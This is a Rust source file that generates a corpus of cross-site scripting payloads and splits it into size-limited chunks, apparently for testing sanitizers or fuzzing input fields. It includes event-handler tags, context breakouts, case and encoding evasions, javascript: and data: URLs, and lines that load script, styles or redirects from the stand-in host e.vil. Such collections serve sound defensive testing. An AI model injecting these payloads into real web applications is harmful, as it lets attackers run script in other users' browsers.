//! What strangers write into fields to run a script where it is read.

/// All of them in texts of at most so many characters.
pub fn pieces(corpus: &[String], most: usize) -> Vec<String> {
    let mut pieces = vec![String::new()];
    for payload in corpus {
        if pieces.last().is_some_and(|piece| piece.chars().count() + payload.chars().count() + 1 > most) {
            pieces.push(String::new());
        }
        pieces.last_mut().unwrap().push_str(&format!("{payload}\n"));
    }
    pieces
}

/// What has run somewhere: tags and handlers in every form that browsers forgive.
pub fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = Vec::new();
    let handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin"];
    for tag in
        ["img src=x", "svg", "body", "input autofocus", "video src=x", "details open", "iframe", "a href=#", "marquee", "object data=x"]
    {
        corpus.extend(handlers.iter().map(|handler| format!("<{tag} {handler}=alert(1)>")));
    }
    for quote in ["\"", "'", "\">", "'>", "`", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</td>"] {
        corpus.extend(
            ["<script>alert(1)</script>", "<svg/onload=alert(1)>", " onfocus=alert(1) autofocus x=", "<img src=x onerror=alert(1)>"]
                .map(|rest| format!("{quote}{rest}")),
        );
    }
    for script in [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//e.vil/x></script>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
    ] {
        corpus.extend(["", "{{", "${", "<%=", "{%", "&lt;", "\u{2028}", "\u{202e}"].map(|before| format!("{before}{script}")));
    }
    for url in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ] {
        corpus.extend([
            format!("<a href=\"{url}\">x</a>"),
            format!("<iframe src='{url}'></iframe>"),
            format!("<form action=\"{url}\"><button>x"),
            format!("[x]({url})"),
        ]);
    }
    corpus.extend(
        [
            "{{7*7}}",
            "{{constructor.constructor('alert(1)')()}}",
            "<base href=//e.vil/>",
            "<meta http-equiv=refresh content=\"0;url=//e.vil\">",
            "<link rel=stylesheet href=//e.vil/x.css>",
            "<style>@import'//e.vil/x.css'</style>",
            "<plaintext>",
            "<!--",
            "<template><script>alert(1)</script></template>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ]
        .map(str::to_owned),
    );
    corpus
}
